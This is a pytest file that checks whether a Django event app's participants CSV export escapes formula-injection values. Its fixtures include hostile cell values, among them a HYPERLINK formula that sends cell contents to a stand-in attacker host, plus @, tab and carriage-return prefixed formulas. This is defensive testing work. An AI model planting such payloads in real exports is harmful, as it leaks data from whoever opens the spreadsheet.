"""The participants list is safe to open in a spreadsheet program: no cell becomes a formula."""

import csv
import io

import pytest

from tests.factories import EventFactory, RegistrationFactory, UserFactory

pytestmark = pytest.mark.django_db


def test_participants_csv_makes_every_text_column_inert(client_as, coordinator):
    event = EventFactory()
    RegistrationFactory(
        event=event,
        user=UserFactory(username="-zoe", first_name='=HYPERLINK("http://evil.example/?"&A1)', last_name=""),
        organisation="\t=1+1",
    )
    RegistrationFactory(
        event=event, user=UserFactory(username="@yan", first_name="@SUM(A1)", last_name="Doe"), organisation="\r=2"
    )
    RegistrationFactory(event=event, user=UserFactory(username="amy", first_name="Amy", last_name="-5"))

    response = client_as(coordinator).get(f"/events/{event.pk}/participants.csv")

    rows = {row[0]: row for row in csv.reader(io.StringIO(response.content.decode()))}
    assert rows["'-zoe"][1] == '\'=HYPERLINK("http://evil.example/?"&A1)'
    assert rows["'-zoe"][3] == "'\t=1+1"
    assert rows["'@yan"][1] == "'@SUM(A1) Doe"
    assert rows["'@yan"][3] == "'\r=2"
    assert rows["amy"][1] == "Amy -5"
